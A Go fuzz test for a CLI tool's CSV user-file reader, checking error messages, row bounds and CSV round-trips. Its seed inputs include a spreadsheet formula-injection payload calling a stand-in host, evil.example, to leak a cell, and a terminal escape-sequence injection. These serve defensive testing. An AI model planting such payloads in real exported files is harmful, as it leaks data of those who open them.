package tokenfile

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"reflect"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/axero-cli/axero/internal/usage"
)

// FuzzUsers reads arbitrary bytes as a --from file: nothing panics, a bad
// header is refused in one line that does not echo raw bytes, the rows
// hold no more than the file did, line numbers only grow, and the rows,
// written back as CSV, read back the same (the failed file is such a copy).
func FuzzUsers(f *testing.F) {
	for _, s := range []string{
		"user\n1001\njdoe\n",
		"\xEF\xBB\xBFUser , Name,EXPIRES\r\n\"Jane Doe\" , ci-token , 30d\r\n\r\n42,,\n",
		"user,name\n\"a\"\"b\",\"multi\nline\"\n\"unterminated\n",
		"name\njdoe\n",
		"\x00\x01\x1b]0;pwned\x07\xff\xfe,\n1\n",
		"user\n" + strings.Repeat("\"", 1000) + "\n",
		"user\n" + strings.Repeat("a,", 5000) + "\n",
		"user\n=HYPERLINK(\"http://evil.example/?\"&F2,\"open\")\n",
		"", "\n\n\n", "\xEF\xBB\xBF\xEF\xBB\xBFuser\n1\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, header, err := readAllRows(data)
		if err != nil {
			var ie *usage.Error
			if !errors.As(err, &ie) {
				t.Fatalf("not an *usage.Error: %v", err)
			}
			msg := err.Error()
			if strings.ContainsAny(msg, "\r\n") || len(msg) > 10*len(data)+200 {
				t.Fatalf("header error is not one bounded line: %q", msg)
			}
			if !utf8.ValidString(msg) {
				t.Fatalf("header error echoes invalid UTF-8: %q", msg)
			}
			for _, r := range msg {
				if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
					t.Fatalf("header error echoes raw bytes: %q", msg)
				}
			}
			return
		}
		size, last := 0, 0
		var good [][]string
		for _, r := range rows {
			if r.Line < last {
				t.Fatalf("line %d after line %d", r.Line, last)
			}
			last = r.Line
			if r.Err != nil {
				continue
			}
			for _, fld := range r.Fields {
				size += len(fld)
			}
			// A row of one empty field is written as an empty line, which
			// the reader skips; it has no user and is never written back.
			if len(r.Fields) == 1 && r.Fields[0] == "" {
				continue
			}
			good = append(good, r.Fields)
		}
		if size > len(data) {
			t.Fatalf("rows hold %d bytes from a file of %d", size, len(data))
		}
		// Write the good rows back and read them again.
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		_ = w.Write(header)
		for _, rec := range good {
			_ = w.Write(rec)
		}
		w.Flush()
		again, header2, err := readAllRows(b.Bytes())
		if err != nil {
			t.Fatalf("the rows written back are refused: %v\n%q", err, b.Bytes())
		}
		if !reflect.DeepEqual(header, header2) {
			t.Fatalf("header %q read back as %q", header, header2)
		}
		var good2 [][]string
		for _, r := range again {
			if r.Err != nil {
				t.Fatalf("a row written back is invalid: %v\n%q", r.Err, b.Bytes())
			}
			good2 = append(good2, r.Fields)
		}
		if len(good) != len(good2) {
			t.Fatalf("%d rows read back as %d\n%q", len(good), len(good2), b.Bytes())
		}
		for i := range good {
			if !reflect.DeepEqual(good[i], good2[i]) {
				t.Fatalf("row %q read back as %q", good[i], good2[i])
			}
		}
	})
}

// readAllRows reads every row, stopping at a bound that no file of len(data)
// bytes can reach without a loop in the reader.
func readAllRows(data []byte) ([]UserRow, []string, error) {
	in, err := NewUsers(bytes.NewReader(data), "fuzz.csv")
	if err != nil {
		return nil, nil, err
	}
	var rows []UserRow
	for i := 0; i <= len(data)+1; i++ {
		r, err := in.Next()
		if errors.Is(err, io.EOF) {
			return rows, in.Header(), nil
		}
		if err != nil {
			return nil, nil, err
		}
		rows = append(rows, r)
	}
	panic("Next never returned io.EOF")
}
